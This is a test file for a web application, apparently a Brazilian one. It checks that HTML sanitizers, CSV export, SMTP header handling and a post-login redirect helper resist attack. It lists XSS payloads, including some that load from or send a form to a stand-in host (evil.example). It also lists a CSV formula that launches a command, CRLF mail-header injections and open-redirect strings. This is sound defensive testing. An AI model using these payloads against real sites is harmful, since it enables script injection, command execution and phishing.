import type { AddressInfo } from 'node:net';
import { SMTPServer } from 'smtp-server';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { richText } from '#app/features/content/server/rich-text.server.ts';
import { sanitizeContract } from '#app/features/contracts/server/sanitize-contract.server.ts';
import { csvLine } from '#app/lib/csv.ts';
import { safePath } from '#app/lib/page-address.ts';
import { createSmtpMail } from '#app/platform/mail/smtp-mail.server.ts';
import { attempted } from '#tests/attempts.ts';

const SCRIPTS = [
  '<script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img/src="x"/onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<a href="javascript:alert(1)">a</a>',
  '<a href=" &#14; javascript:alert(1)">a</a>',
  '<a href="java&#10;script:alert(1)">a</a>',
  '<a href="data:text/html,<script>alert(1)</script>">a</a>',
  '<a href="vbscript:x">a</a>',
  '<iframe src="//evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="x.svg"></object><embed src="x.svg">',
  '<form action="//evil.example"><input name="senha"></form>',
  '<base href="//evil.example/">',
  '<meta http-equiv="refresh" content="0;url=//evil.example">',
  '<link rel="stylesheet" href="//evil.example/x.css">',
  '<style>@import "//evil.example"</style>',
  '<p style="background:url(//evil.example)">a</p>',
  '<p onmouseover="alert(1)">a</p>',
  '<details open ontoggle=alert(1)>',
  '<body onload=alert(1)>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<p>a</p\u0000><script\u0000>alert(1)</script>',
];

/** Tags, attributes and addresses that act or load, in what is left of a text. */
const ACTS =
  /<(?!\/?(?:p|br|h[1-4]|ul|ol|li|strong|em|u|a|blockquote|table|thead|tbody|tr|th|td)\b)[a-z!/]|<[^>]*\s(?:on\w+|style|src|srcdoc|action)\s*=|href="(?!\/[^/]|https?:|mailto:|tel:|#)/i;

describe('a script', () => {
  const CLEANERS = { 'text of the site': richText, contract: sanitizeContract };
  test.each(Object.keys(CLEANERS) as (keyof typeof CLEANERS)[])('in a %s is gone', (where) => {
    for (const script of SCRIPTS)
      for (const text of [script, `<p>${script}</p>`, script.toUpperCase(), `${script}${script}`]) {
        const cleaned = CLEANERS[where](text);
        const held = !ACTS.test(cleaned);
        attempted('scripts', held);
        expect(held, `${text} became ${cleaned}`).toBe(true);
      }
  });

  test('that would act is recognised by this test', () => {
    for (const acting of [...SCRIPTS.slice(0, 5), '<p style="x">', '<a href="//evil">', '<!-- -->'])
      expect(ACTS.test(acting), acting).toBe(true);
    expect(ACTS.test('<p>a &lt;b&gt; <a href="/faq">b</a> <a href="https://gov.br">c</a><br /></p>')).toBe(
      false,
    );
  });
});

test('a formula in an exported table is text', () => {
  const starts = ['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠'];
  for (const start of starts)
    for (const before of ['', ' ', '   ', '\n', '\u00a0', '\ufeff'])
      for (const formula of ["cmd|' /C calc'!A0", 'HYPERLINK("//evil.example";"x")', '1+1";=2']) {
        const field = csvLine([`${before}${start}${formula}`]).replace(/^"/, '');
        const held = field.startsWith("'");
        attempted('csv-formula', held);
        expect(held, JSON.stringify(field)).toBe(true);
      }
});

describe('a line break in a mail’s header', () => {
  const received: string[] = [];
  const server = new SMTPServer({
    authOptional: true,
    disabledCommands: ['STARTTLS', 'AUTH'],
    onData(stream, session, done) {
      const chunks: Buffer[] = [];
      stream.on('data', (chunk: Buffer) => chunks.push(chunk));
      stream.on('end', () => {
        const to = session.envelope.rcptTo.map(({ address }) => address).join();
        received.push(`ENVELOPE ${to}\n${Buffer.concat(chunks)}`);
        done();
      });
    },
  });
  beforeAll(() => new Promise<void>((resolve) => void server.listen(0, '127.0.0.1', resolve)));
  afterAll(() => new Promise<void>((resolve) => server.close(resolve)));

  test('adds no header and no recipient', async () => {
    const { port } = server.server.address() as AddressInfo;
    const smtp = createSmtpMail({ url: `smtp://127.0.0.1:${port}`, from: 'Nome <a@nome.exemplo>' });
    const mail = { id: 'abc', to: 'ana@exemplo.com.br', subject: 'Oi', text: 'Oi', html: '<p>Oi</p>' };
    for (const line of ['\r\n', '\n', '\r', '\r\n ', '%0d%0a', '\u2028'])
      for (const more of ['Bcc: evil@evil.example', 'X-Evil: 1', '\r\n<script>alert(1)</script>'])
        for (const field of ['subject', 'to', 'id'] as const) {
          received.length = 0;
          await smtp.send({ ...mail, [field]: `${mail[field]}${line}${more}` }).catch(() => {});
          const [head = ''] = (received[0] ?? '').split(/\r?\n\r?\n/);
          // U+2028 breaks a line for JavaScript, and for no mail server.
          const headers = head.split(/\r\n?|\n/);
          const held = !headers.some((one) => /^(Bcc|X-Evil)\s*:|^<script|^ENVELOPE .*evil@/i.test(one));
          attempted('mail-header', held);
          expect(held, `${field} ${JSON.stringify(line + more)}\n${head}`).toBe(true);
        }
  });
});

test('no address leads to another site after signing in', () => {
  const hosts = ['evil.example', 'nome.exemplo@evil.example', '0x7f000001', '[::1]', 'evil.example:443'];
  const starts = [
    '//',
    '/\\',
    '\\\\',
    '\\/',
    'https://',
    'HTTPS:',
    'https:/',
    '/\t/',
    '/\n/',
    '/\r/',
    '/./\\',
    '/.//',
    '/a/..//',
    '\u0000//',
    ' //',
    '///',
    'javascript:',
    'data:text/html,',
    'ftp://',
  ];
  for (const start of starts)
    for (const host of hosts)
      for (const end of ['', '/', '/app', '?x=/app', '#/app', '\\app']) {
        const path = safePath(start + host + end, '/app');
        const held = new URL(path, 'https://nome.exemplo').host === 'nome.exemplo';
        attempted('foreign-redirect', held);
        expect(held, start + host + end).toBe(true);
      }
});
